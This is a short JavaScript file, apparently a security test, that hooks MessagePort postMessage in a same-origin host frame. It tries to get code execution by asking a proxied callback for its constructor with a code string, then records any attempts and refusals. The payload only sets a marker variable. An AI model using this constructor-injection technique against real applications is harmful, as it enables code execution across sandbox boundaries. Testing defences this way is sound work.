// Runs in the container's host frame, where a previewed page can put it: they have one origin. Answers every callback of
// the app that the official client handed over by asking for `new listener.constructor(code)`, and calls what comes back.
(() => {
	// The page that put it here may be loaded again.
	if (window.attempts !== undefined) return;
	const { postMessage } = MessagePort.prototype;
	const [APPLY, CONSTRUCT, RAW] = [2, 3, 0];
	const code = 'globalThis.pwned = "through a callback"; return 1';
	const seen = new WeakSet();
	window.attempts = 0;
	window.refusals = [];
	MessagePort.prototype.postMessage = function (message, ...rest) {
		if (message?.type === APPLY && message.path?.length === 0 && !seen.has(this)) {
			seen.add(this);
			window.attempts++;
			this.addEventListener('message', ({ data }) => {
				if (data?.id !== 'attack') return;
				const port = data.value;
				if (!(port instanceof MessagePort)) {
					window.refusals.push(String(data.value?.value?.message));
					return;
				}
				port.start();
				postMessage.call(port, { id: 'call', type: APPLY, path: [], argumentList: [] });
			});
			const argumentList = [{ type: RAW, value: code }];
			postMessage.call(this, {
				id: 'attack',
				type: CONSTRUCT,
				path: ['constructor'],
				argumentList,
			});
		}
		return postMessage.call(this, message, ...rest);
	};
})();
